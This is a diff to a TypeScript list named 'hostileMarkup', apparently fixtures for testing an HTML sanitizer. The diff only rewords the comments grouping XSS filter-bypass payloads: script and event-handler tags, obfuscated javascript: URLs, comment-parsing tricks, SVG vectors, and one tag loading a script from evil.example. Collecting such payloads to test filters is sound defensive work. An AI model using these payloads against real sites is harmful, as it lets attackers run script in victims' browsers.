@@ -1,9 +1,9 @@
 /**
- * Pieces of markup that once got scripts past a filter, by the ways in which they did: an element or attribute forgotten, an
- * address written so that a filter doesn't see its scheme, text that is read twice, and one reading of it being another's.
+ * Pieces of markup that once got scripts past a filter, by technique: a forgotten element or attribute, an address
+ * whose scheme a filter doesn't recognize, and text that is parsed twice in different ways.
  */
 export const hostileMarkup: readonly string[] = [
-  // What runs by itself.
+  // Elements that run scripts without interaction.
   '<script>x()</script>',
   '<ScRiPt src=//evil.example/x></sCrIpT >',
   '<script/x>x()</script/>',
@@ -24,7 +24,7 @@ export const hostileMarkup: readonly string[] = [
   '<p/onclick=x()>p',
   '<b onpointerenter="x()" contenteditable tabindex=0>b</b>',
   '<button popovertarget=p>b</button><div id=p popover onbeforetoggle=x()>',
-  // What brings a document or a script along.
+  // Elements that load a document or a script.
   '<iframe src="javascript:x()"></iframe>',
   '<iframe srcdoc="&lt;script&gt;x()&lt;/script&gt;"></iframe>',
   '<object data="javascript:x()"></object>',
@@ -40,7 +40,7 @@ export const hostileMarkup: readonly string[] = [
   '<applet code=x></applet>',
   '<template><img src=x onerror=x()></template>',
   '<template shadowrootmode=open><script>x()</script></template>',
-  // Addresses whose scheme a filter doesn't see.
+  // Addresses whose scheme a filter doesn't recognize.
   '<a href="javascript:x()">a</a>',
   '<a href=" \x01javascript:x()">a</a>',
   '<a href="java\tscript:x()">a</a>',
@@ -62,7 +62,7 @@ export const hostileMarkup: readonly string[] = [
   '<img src="data:image/svg+xml,<svg onload=x()>">',
   '<a href="\'onclick=x()">a</a>',
   '<a href=\'"onclick="x()\'>a</a>',
-  // One reading that is another's: elements that hold text, comments, other languages.
+  // Text that is parsed in different ways: raw text elements, comments, other languages.
   '<!--><script>x()</script>-->',
   '<!--!><img src=x onerror=x()>-->',
   '<!-- --!><img src=x onerror=x()> -->',
@@ -103,7 +103,7 @@ export const hostileMarkup: readonly string[] = [
   '<ſcript>x()</ſcript>',
   '<scrİpt>x()</scrİpt>',
   '&lt;img src=x onerror=x()&gt;',
-  // Drawings.
+  // SVG drawings.
   '<svg><script>x()</script></svg>',
   '<svg><script href="data:,x()"/></svg>',
   '<svg><a xlink:href="javascript:x()"><path d="M0 0h9v9z"/></a></svg>',
